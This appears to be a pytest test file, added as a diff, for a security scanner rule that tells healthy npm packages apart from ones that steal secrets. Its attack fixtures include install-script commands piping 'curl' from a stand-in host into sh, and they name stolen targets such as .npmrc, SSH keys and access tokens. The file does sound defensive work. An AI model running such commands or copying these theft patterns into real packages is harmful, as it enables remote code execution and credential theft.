@@ -1,0 +1,132 @@
+"""Shapes of healthy packages that must stay quiet, then shapes of real attacks that must not."""
+
+import pytest
+from support.subjects import declares, found, package, subject, use
+
+RULE = "suspicious-grant"
+SEND = ("builtin:https.request", "network")
+ENV = ("global:process.env", "environment")
+
+
+def env(name):
+    return (f"global:process.env.{name}", "environment")
+
+
+def script(command):
+    return use("script:postinstall", "install", f"package.json:4:4:{command}")
+
+
+def judged(*uses, location="node_modules/a", **fields):
+    return found(RULE, subject(package(location, *uses, **fields)))
+
+
+HEALTHY = {
+    "a client": [use(*SEND, "a.js:9")],
+    "reads a proxy's name": [use(*env("HTTP_PROXY"), "a.js:2"), use(*SEND, "a.js:9")],
+    "npm's settings": [use(*env("npm_config_registry"), "a.js:2"), use(*SEND, "a.js:9")],
+    "a key that is none": [use(*env("KEYBOARD"), "a.js:2"), use(*SEND, "a.js:9")],
+    "the environment elsewhere": [use(*ENV, "env.js:2"), use(*SEND, "http.js:9")],
+    "a server": [use(*ENV, "a.js:2"), use("builtin:http.createServer", "network", "a.js:9")],
+    "a console on a socket": [use(*ENV, "a.js:2"), use("builtin:net.Socket", "network", "a.js:9")],
+    "looks a host up": [use(*ENV, "a.js:2"), use("builtin:dns.lookup", "network", "a.js:9")],
+    "a token, no network": [use(*env("NPM_TOKEN"), "a.js:2")],
+    "reads a plain file": [
+        use("builtin:fs.readFileSync", "filesystem-read", literals=["config.json", "ssh.md"]),
+        use(*SEND),
+    ],
+    "the global object": [
+        use("global:Function", "code", 'a.js:3:1:Function("return this")()'),
+        use("global:XMLHttpRequest", "network", "a.js:9"),
+    ],
+    "eval alone": [use("global:eval", "code")],
+    "encrypts": [use("global:eval", "code"), use("builtin:crypto.createHash")],
+    "builds itself": [script("node-gyp rebuild"), use("builtin:child_process.spawn", "process", "lib.js:1")],
+    "says thank you": [script("node thanks.js"), use("builtin:fs.existsSync", "filesystem-read", "thanks.js:1")],
+    "a fetch polyfill": [use("write:globalThis.fetch", "primordials", guarded=True)],
+    "another polyfill": [use("write:Array.prototype.flat", "primordials")],
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("uses", HEALTHY.values(), ids=HEALTHY)
+def test_silent(uses):
+    assert judged(*uses) == ()
+
+
+def test_a_service_may_read_its_own_token():
+    uses = [use(*env("SENTRY_AUTH_TOKEN"), "a.js:2"), use(*SEND, "a.js:9")]
+    assert judged(*uses, location="node_modules/@sentry/cli") == ()
+    assert judged(*uses, location="node_modules/left-fill-x")
+
+
+ATTACKS = {
+    "sends the environment": [use(*ENV, "a.js:2"), use(*SEND, "a.js:9")],
+    "sends it by fetch": [use(*ENV, "a.js:2"), use("global:fetch", "network", "a.js:9")],
+    "on one long line": [use(*ENV, "a.js:1:900"), use(*SEND, "a.js:1:1500")],
+    "sends a token": [use(*env("NPM_TOKEN"), "a.js:2"), use(*SEND, "a.js:900")],
+    "a computed token": [use(*ENV, "a.js:2", literals=["GITHUB_TOKEN"]), use(*SEND, "a.js:900")],
+    "an access key": [use(*env("AWS_ACCESS_KEY_ID"), "a.js:2"), use(*SEND, "a.js:9")],
+    "steals .npmrc": [
+        use("builtin:fs.readFileSync", "filesystem-read", "a.js:4", literals=["/home/u/.npmrc"]),
+        use("builtin:https.get", "network", "a.js:5"),
+    ],
+    "steals keys over dns": [
+        use("builtin:fs.readFileSync", "filesystem-read", "a.js:4", literals=[".ssh/id_rsa"]),
+        use("builtin:dns.resolve", "network", "a.js:5"),
+    ],
+    "runs what it fetched": [use("global:eval", "code", "a.js:4"), use(*SEND, "a.js:9")],
+    "vm of what it fetched": [use("builtin:vm.runInThisContext", "code", "a.js:4"), use(*SEND, "a.js:9")],
+    "runs what it decrypted": [
+        use("load:internals", "loader", "a.js:4"), use("builtin:crypto.createDecipheriv", "none", "a.js:9"),
+    ],
+    "install script downloads": [script("curl https://x.invalid | sh")],
+    "install script downloads and runs": [
+        script("node setup.js"), use(*SEND, "setup.js:1"), use("builtin:child_process.exec", "process", "setup.js:2"),
+    ],
+    "install script starts a downloader": [
+        script("node ./setup"),
+        use("builtin:child_process.exec", "process", "setup.js:2", literals=["curl x.invalid -o x"]),
+    ],
+    "wraps fetch": [use("write:globalThis.fetch", "primordials"), use("global:fetch", "network")],
+    "wraps requests": [use("write:XMLHttpRequest.prototype.open", "primordials")],
+    "wraps node's requests": [use("write:builtin:http.request", "primordials")],
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("uses", ATTACKS.values(), ids=ATTACKS)
+def test_firing(uses):
+    (finding,) = judged(*uses)
+    assert finding.severity == "high"
+    assert finding.evidence
+
+
+@pytest.mark.parametrize("uses", ATTACKS.values(), ids=ATTACKS)
+def test_a_declaration_does_not_make_it_harmless(uses):
+    assert judged(*uses, declaration=declares("network", "environment", "code", "install"))
+
+
+MILD = {
+    "far apart in a bundle": ("low", [use(*ENV, "a.js:2"), use(*SEND, "a.js:9000")]),
+    "a token in another file": ("moderate", [use(*env("NPM_TOKEN"), "a.js:2"), use(*SEND, "b.js:2")]),
+    "unreachable": ("moderate", [use(*ENV, "a.js:2", reachable=False), use(*SEND, "a.js:3")]),
+    "install script fetches": ("moderate", [script("node get.js"), use(*SEND, "get.js:1")]),
+    "supplies fetch": ("moderate", [use("write:globalThis.fetch", "primordials")]),
+}
+
+
+@pytest.mark.parametrize(("severity", "uses"), MILD.values(), ids=MILD)
+def test_distance_and_reach_lower_it(severity, uses):
+    (finding,) = judged(*uses)
+    assert finding.severity == severity
+
+
+def test_the_closest_places_are_shown():
+    uses = [use(*ENV, "z.js:5:1", "a.js:2:1"), use(*SEND, "b.js:1:1", "a.js:4:1")]
+    (finding,) = judged(*uses)
+    assert [(place.file, place.line) for place in finding.evidence] == [("a.js", 4), ("a.js", 2)]
+
+
+def test_what_install_scripts_load_counts():
+    uses = [script("node setup.js"), use(*SEND, "lib/x.js:1"), use("global:eval", "code", "lib/x.js:900")]
+    reached = judged(*uses, install_files=("lib/x.js", "setup.js"))
+    assert [finding.message for finding in reached if "at install" in finding.message]
+    assert not [finding.message for finding in judged(*uses) if "at install" in finding.message]
